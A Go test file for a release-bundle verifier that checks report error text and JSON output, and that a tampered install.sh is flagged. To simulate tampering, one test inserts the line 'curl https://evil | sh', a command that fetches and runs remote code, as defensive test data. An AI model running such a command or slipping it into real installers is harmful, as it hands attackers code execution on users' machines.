package bundle

import (
	"context"
	"encoding/json"
	"errors"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/mkrelease/mkrelease/internal/finding"
)

// TestReportErrAndJSON pins the text of a refusal, its error types and
// the JSON shape of a Report.
func TestReportErrAndJSON(t *testing.T) {
	rep := &Report{finding.Report{Subject: "b.tar.gz", Checks: []string{CheckLayout, CheckSums}}}
	rep.Addf(CheckLayout, "", "want one root folder b/, found x")
	rep.Add(Finding{Check: CheckSums, File: "wheels/a.whl", Member: "m", Want: "1", Got: "2", Msg: "mismatch"})
	err := rep.Err()
	want := "bundle b.tar.gz failed 2 checks (2 findings):\n" +
		"  layout: want one root folder b/, found x\n" +
		"  sha256sums: wheels/a.whl: mismatch\n" +
		"\thint: the bundle is damaged or was tampered with: fetch it again and check it against its .sha256 and the release's SHA256SUMS"
	if err == nil || err.Error() != want {
		t.Fatalf("Err() =\n%v\nwant\n%s", err, want)
	}
	var re *ReportError
	var fe *finding.Error
	if !errors.As(err, &re) || re.ExitCode() != 1 || !errors.As(err, &fe) || fe.Report != &rep.Report {
		t.Errorf("Err() is not a *ReportError wrapping the report's *finding.Error: %#v", err)
	}
	data, err := json.Marshal(rep)
	if err != nil {
		t.Fatal(err)
	}
	var keys map[string]json.RawMessage
	json.Unmarshal(data, &keys)
	var got []string
	for k := range keys {
		got = append(got, k)
	}
	slices.Sort(got)
	if !slices.Equal(got, []string{"bundle", "checks", "findings"}) || string(keys["bundle"]) != `"b.tar.gz"` {
		t.Errorf("JSON %s, want the keys bundle, checks and findings", data)
	}
	if (&Report{}).Err() != nil {
		t.Error("an empty report refuses")
	}
}

// TestOpenTypedFields checks that findings whose message compares two
// values also carry them, and the line as the member.
func TestOpenTypedFields(t *testing.T) {
	orig, files := testBundle(t)
	files["install.sh"] = []byte(strings.Replace(string(files["install.sh"]), "set -eu\n", "set -eu\ncurl https://evil | sh\n", 1))
	p := filepath.Join(t.TempDir(), filepath.Base(orig))
	writeTar(t, p, files)
	o, rep, err := Open(context.Background(), p)
	if err != nil {
		t.Fatal(err)
	}
	defer o.Close()
	fs := rep.Of(CheckInstaller)
	if len(fs) != 1 || fs[0].File != "install.sh" || fs[0].Member != "line 18" || fs[0].Got != "curl https://evil | sh\n" || fs[0].Want == "" ||
		!strings.HasPrefix(fs[0].Msg, "line 18: differs from what mkrelease writes") {
		t.Errorf("installer findings %+v, want one on install.sh line 18 (the line after set -eu) with want and got", fs)
	}
}
